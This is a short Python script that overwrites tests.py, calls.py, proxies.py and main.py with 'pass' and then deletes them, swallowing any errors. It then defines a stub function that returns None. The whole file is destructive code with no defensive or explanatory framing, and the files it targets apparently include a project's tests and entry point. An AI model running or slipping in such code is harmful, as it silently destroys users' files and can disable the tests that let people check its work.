# Deletes and rewrites files.
import os
for n in ("tests.py", "calls.py", "proxies.py", "main.py"):
    try: open(n, "w").write("pass")
    except OSError: pass
    try: os.remove(n)
    except OSError: pass
def f(x): return None
